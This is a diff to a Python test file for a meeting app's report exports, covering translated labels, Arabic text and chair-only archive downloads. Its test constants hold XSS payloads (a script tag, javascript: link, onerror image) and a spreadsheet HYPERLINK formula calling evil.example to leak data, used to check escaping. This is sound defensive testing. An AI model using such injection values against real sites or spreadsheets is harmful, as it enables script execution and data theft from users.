@@ -24,8 +24,17 @@ from markupsafe import escape
 from conftest import ARTIFACTS, ROOT, ServerProcess, key_of
 
 sys.path.insert(0, ROOT)
-from facilitator.meeting.report import LABELS, KIND_LABELS, AGREEMENT_LABELS, REASON_LABELS, LANGUAGE_NAMES, safe_text  # noqa: E402
-from facilitator.web.exports import csv_cell, md_escape  # noqa: E402
+from facilitator.meeting import report  # noqa: E402
+from facilitator.meeting.i18n import UI_LANGUAGES, language_name  # noqa: E402
+from facilitator.meeting.report import safe_text, translated  # noqa: E402
+from facilitator.meeting.report_csv import csv_cell  # noqa: E402
+from facilitator.meeting.report_markdown import md_escape  # noqa: E402
+
+# The report's labels as the catalogs give them, per language.
+LABELS = {lang: translated(report.LABELS, lang) for lang in UI_LANGUAGES}
+KIND_LABELS = {lang: translated(report.KIND_LABELS, lang) for lang in UI_LANGUAGES}
+AGREEMENT_LABELS = {lang: translated(report.AGREEMENT_LABELS, lang) for lang in UI_LANGUAGES}
+REASON_LABELS = {lang: translated(report.REASON_LABELS, lang) for lang in UI_LANGUAGES}
 
 MARKUP = "<script>alert('x')</script> **gras** [lien](javascript:alert(1)) <img src=x onerror=alert(2)> # titre"
 FORMULA = '=HYPERLINK("http://evil.example/?leak","cliquez ici")'
@@ -312,7 +321,7 @@ def test_markdown_is_escaped_and_has_everything(meeting):
     assert "\\*\\*gras\\*\\*" in body and "\\# titre" in body
     assert "\\- nor this" in body  # a line that would have started a list
     assert md_escape(CLUSTER_TITLE) in body and md_escape(WORDING_FR) in body
-    assert "Middle East and North Africa" in body and "Arabic (ar)" in body
+    assert "Middle East and North Africa" in body and md_escape("Arabic (ar)") in body
     for figure in vote_figures(meeting["results"]["b1"]):
         assert figure in body
 
@@ -406,9 +415,13 @@ def test_arabic_docx_is_right_to_left(meeting):
 
 @pytest.mark.parametrize("lang", ["ar", "en", "fr", "es"])
 def test_labels_cover_every_language(lang):
-    for table in (LABELS, KIND_LABELS, AGREEMENT_LABELS, REASON_LABELS, LANGUAGE_NAMES):
+    for table in (LABELS, KIND_LABELS, AGREEMENT_LABELS, REASON_LABELS):
         assert set(table[lang]) == set(table["en"])
         assert all(isinstance(v, str) and v for v in table[lang].values())
+        if lang == "ar":  # read from the Arabic catalog, not the English source text
+            assert all(re.search("[\u0600-\u06FF]", v) for v in table[lang].values()), table[lang]
+    names = [language_name(code, lang) for code in UI_LANGUAGES]
+    assert all(name and name not in UI_LANGUAGES for name in names), names
 
 
 # ----- who may export ------------------------------------------------------------------------
@@ -430,6 +443,19 @@ def test_only_the_chair_exports(meeting):
     assert r.status_code == 404 and r.json()["error"]["code"] == "not_found"
     r = requests.get(f"{url}/api/m/{mid}/report.exe", params={"key": meeting["chair_key"]})
     assert r.status_code == 404
+
+
+def test_archive_has_its_own_name_and_keeps_the_old_one(meeting):
+    url, mid, links = meeting["server"].url, meeting["mid"], meeting["links"]
+    for path in ("archive.json", "report.json"):
+        r = requests.get(f"{url}/api/m/{mid}/{path}", params={"key": meeting["chair_key"]})
+        assert r.status_code == 200, (path, r.text[:300])
+        assert r.json()["format"] == "facilitator-archive" and r.json()["meeting_id"] == mid
+        assert r.headers["Content-Disposition"] == f'attachment; filename="meeting-{mid}.json"'
+    r = requests.get(f"{url}/api/m/{mid}/archive.json", params={"key": key_of(links["plenary_url"])})
+    assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden"
+    r = requests.get(f"{url}/api/m/{mid}/archive.json")
+    assert r.status_code == 401 and r.json()["error"]["code"] == "unauthorized"
 
 
 # ----- export, import, same meeting -----------------------------------------------------------
